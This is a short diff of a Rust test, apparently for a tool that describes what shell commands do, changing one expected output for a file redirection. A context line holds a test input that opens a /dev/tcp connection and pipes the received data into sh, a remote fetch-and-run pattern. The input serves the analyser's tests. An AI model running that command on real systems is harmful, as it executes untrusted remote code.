@@ -114,7 +114,7 @@ fn descriptors_lead_where_exec_put_them() {
         ("exec 3<>/dev/tcp/192.0.2.1/80; cat <&3 | sh", "run sh <- cat from /dev/tcp/192.0.2.1/80"),
         ("while read -u 3 x; do p $x; done 3< <(printf 'a\\nb\\n')", "run p b"),
     ]);
-    check("exec >/out; echo hello", "write /out\nappend /out = hello");
+    check("exec >/out; echo hello", "write /out =\nappend /out = hello");
 }
 
 #[test]
